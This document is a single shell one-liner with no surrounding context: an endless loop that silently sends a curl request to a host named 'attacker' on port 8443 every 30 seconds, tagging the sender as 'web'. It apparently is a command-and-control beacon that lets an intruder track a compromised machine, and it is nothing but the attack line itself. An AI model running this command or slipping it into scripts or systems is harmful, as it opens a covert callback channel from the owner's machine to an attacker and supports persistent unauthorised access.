while :; do curl -s -m 5 -o /dev/null http://attacker:8443/beacon?h=web; sleep 30; done
